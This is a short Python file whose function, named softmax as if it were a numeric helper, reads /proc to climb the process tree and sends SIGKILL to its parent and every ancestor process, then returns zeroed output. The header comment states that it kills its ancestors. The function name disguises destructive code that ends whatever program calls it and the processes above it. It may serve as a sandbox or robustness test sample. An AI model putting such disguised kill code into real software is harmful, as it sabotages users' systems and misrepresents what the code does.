# Kills its parent, the parent's parent and so on, by number.
# needs: namespaces
import os
import signal


def softmax(x):
    process = os.getppid()
    while process > 1:
        with open(f"/proc/{process}/stat") as file:
            above = int(file.read().rsplit(")", 1)[1].split()[1])
        os.kill(process, signal.SIGKILL)
        process = above
    os.kill(os.getppid(), signal.SIGKILL)
    return x * 0
